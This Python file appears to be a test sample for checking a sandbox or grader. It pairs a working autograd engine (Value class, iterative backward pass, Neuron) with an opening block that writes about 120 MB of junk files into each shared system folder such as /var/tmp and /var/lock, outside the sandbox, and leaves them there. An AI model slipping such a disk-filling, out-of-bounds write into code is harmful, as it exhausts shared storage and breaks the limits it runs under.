"""Writes 8 x 15 MB into every folder any user may write in that a sandbox's uid can find outside
its own (/run/lock, /var/lock, /var/tmp...), as lockhog-<pid>-<i>.bin, keeps them a second, then
is a correct engine."""

import os
import time

for folder in ("/run/lock", "/var/lock", "/var/tmp", "/var/crash", "/var/mail"):
    for i in range(8):
        try:
            with open(os.path.join(folder, f"lockhog-{os.getpid()}-{i}.bin"), "wb") as f:
                for _ in range(15):
                    f.write(b"\1" * (1 << 20))
        except OSError:
            break
time.sleep(1)  # and keeps them a while

"""Correct engine, style 2: children in a tuple, iterative DFS topological sort.

backward() never recurses, so it handles very deep graphs (e.g. a
100,000-node chain) without hitting Python's recursion limit.
"""
import math
import random


class Value:

    def __init__(self, data, _children=(), _op=''):
        self.data = float(data)
        self.grad = 0.0
        self._children = tuple(_children)
        self._op = _op
        self._backward = lambda: None

    def __repr__(self):
        return f"Value(data={self.data}, grad={self.grad})"

    # ---- primitive operations -------------------------------------------

    def __add__(self, other):
        other = other if isinstance(other, Value) else Value(other)
        out = Value(self.data + other.data, (self, other), '+')

        def _backward():
            self.grad += out.grad
            other.grad += out.grad
        out._backward = _backward
        return out

    def __mul__(self, other):
        other = other if isinstance(other, Value) else Value(other)
        out = Value(self.data * other.data, (self, other), '*')

        def _backward():
            self.grad += other.data * out.grad
            other.grad += self.data * out.grad
        out._backward = _backward
        return out

    def __pow__(self, k):
        assert isinstance(k, (int, float)), "exponent must be a constant"
        out = Value(self.data ** k, (self,), '**')

        def _backward():
            self.grad += k * self.data ** (k - 1) * out.grad
        out._backward = _backward
        return out

    def tanh(self):
        t = math.tanh(self.data)
        out = Value(t, (self,), 'tanh')

        def _backward():
            self.grad += (1 - t ** 2) * out.grad
        out._backward = _backward
        return out

    def relu(self):
        out = Value(self.data if self.data > 0 else 0.0, (self,), 'relu')

        def _backward():
            self.grad += (self.data > 0) * out.grad
        out._backward = _backward
        return out

    def exp(self):
        out = Value(math.exp(self.data), (self,), 'exp')

        def _backward():
            self.grad += out.data * out.grad
        out._backward = _backward
        return out

    # ---- derived operations ---------------------------------------------

    def __neg__(self):
        return self * -1

    def __sub__(self, other):
        return self + (-other)

    def __truediv__(self, other):
        return self * other ** -1

    def __radd__(self, other):
        return self + other

    def __rsub__(self, other):
        return (-self) + other

    def __rmul__(self, other):
        return self * other

    def __rtruediv__(self, other):
        return self ** -1 * other

    # ---- backpropagation ------------------------------------------------

    def backward(self):
        topo = []
        visited = set()
        stack = [(self, False)]
        while stack:
            node, expanded = stack.pop()
            if expanded:
                topo.append(node)          # all children already placed
                continue
            if node in visited:
                continue
            visited.add(node)
            stack.append((node, True))
            for child in node._children:
                if child not in visited:
                    stack.append((child, False))

        self.grad = 1.0
        for node in reversed(topo):
            node._backward()


class Neuron:

    def __init__(self, nin):
        self.w = [Value(random.uniform(-1, 1)) for _ in range(nin)]
        self.b = Value(random.uniform(-1, 1))

    def __call__(self, x):
        act = Value(0.0)
        for wi, xi in zip(self.w, x):
            act = act + wi * xi
        act = act + self.b
        return act.tanh()

    def parameters(self):
        return self.w + [self.b]


def numerical_grad(f, x, h=1e-6):
    return (f(x + h) - f(x - h)) / (2 * h)
